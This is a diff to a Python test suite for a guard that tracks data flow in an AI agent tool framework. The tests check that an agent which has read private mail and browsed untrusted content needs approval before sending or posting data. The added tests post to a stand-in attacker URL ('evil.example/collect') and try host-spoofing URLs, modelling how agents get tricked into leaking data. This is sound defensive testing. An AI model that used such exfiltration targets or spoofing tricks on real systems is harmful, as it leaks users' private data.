@@ -11,9 +11,13 @@ from tests import examples
 from tests.core.test_resolver import made
 from tests.core.workbench import Bench, code, resolver_of
 from tests.guards.calls import call
+from toolcrib.core.call import Caller
+from toolcrib.core.errors import BadConfig
 from toolcrib.core.guard import Verdict
 from toolcrib.core.tool import Flow, Tool
 from toolcrib.guards.flow import FlowGuard
+from toolcrib.services.config.values import AgentFlow, FlowRules
+from toolcrib.stores.inprocess.labels import MemoryLabels
 
 READ = made("read_mail", flow=frozenset({Flow.PRIVATE}))
 BROWSE = made("browse", flow=frozenset({Flow.UNTRUSTED}))
@@ -63,10 +67,10 @@ def test_a_sub_agent_sends_under_the_labels_of_its_parents() -> None:
 
 
 def test_the_mode_can_be_deny_or_off_by_agent_and_tools_can_be_exempt() -> None:
-    strict = FlowGuard("deny", agents={"bob": "off"})
+    strict = FlowGuard(FlowRules(mode="deny", agents={"bob": AgentFlow(mode="off")}))
     assert said(strict, READ, BROWSE, SEND) == ["", "", "deny"]
     assert said(strict, READ, BROWSE, SEND, agent="bob", session="b") == ["", "", ""]
-    assert said(FlowGuard(exempt=["send"]), READ, BROWSE, SEND, FETCH) == ["", "", "", "ask"]
+    assert said(FlowGuard(FlowRules(tools=("send",))), READ, BROWSE, SEND, FETCH) == ["", "", "", "ask"]
 
 
 def test_tools_without_labels_are_not_watched() -> None:
@@ -95,3 +99,44 @@ async def test_through_the_pipeline_the_third_call_needs_a_person() -> None:
     assert [code(answer) for answer in answers] == ["", "", "approval_required"]
     assert "private data" in answers[2].text
     assert bench.records[2].verdicts[0].startswith("ask flow")
+
+
+POST = made("post", flow=frozenset({Flow.SENDS}), target="url")
+
+
+def posted(guard: FlowGuard, url: str, **who: Any) -> Verdict | None:
+    said(guard, READ, BROWSE, **who)
+    return guard.check(call(POST, arguments={"url": url}, raw=b"x" * 1234, **{"session": "s", **who}))
+
+
+@pytest.mark.meets("flow:question:shows")
+def test_the_question_says_what_would_leave_where_to_and_what_was_read() -> None:
+    verdict = posted(FlowGuard(), "https://evil.example/collect")
+    assert verdict is not None
+    for part in ("1,234 bytes", "evil.example", "read_mail", "browse"):
+        assert part in verdict.why
+
+
+@pytest.mark.meets("flow:destination:exceptions")
+def test_a_destination_may_be_open_to_all_or_to_one_agent() -> None:
+    rules = FlowRules(destinations=("*.corp.example",), agents={"bob": AgentFlow(destinations=("api.example.com",))})
+    assert posted(FlowGuard(rules), "https://mail.corp.example/send") is None
+    assert posted(FlowGuard(rules), "https://mail.corp.example.evil.example/send") is not None
+    assert posted(FlowGuard(rules), "https://mail.corp.example@evil.example/send") is not None
+    assert posted(FlowGuard(rules), "https://api.example.com/send", agent="bob") is None
+    assert posted(FlowGuard(rules), "https://api.example.com/send", agent="kim") is not None
+    with pytest.raises(BadConfig, match=r"flow\.destinations"):
+        FlowGuard(FlowRules(destinations=("no host",)))
+
+
+@pytest.mark.meets("flow:labels:kept")
+async def test_labels_are_kept_before_the_tool_runs_and_outlive_the_guard() -> None:
+    tools, labels = [READ, BROWSE, SEND], MemoryLabels()
+    guard = FlowGuard(labels=labels)
+    bench = Bench(resolver=resolver_of(tools), guards=[guard], rings=[guard])
+    for tool in (READ, BROWSE):
+        await bench.call(tool.name, session="child", parents=("root",))
+    fresh = FlowGuard(labels=labels)
+    assert said(fresh, SEND, session="root") == [""]
+    await fresh.recall(Caller(agent="ada", session="root"))
+    assert said(fresh, SEND, session="root") == ["ask"]
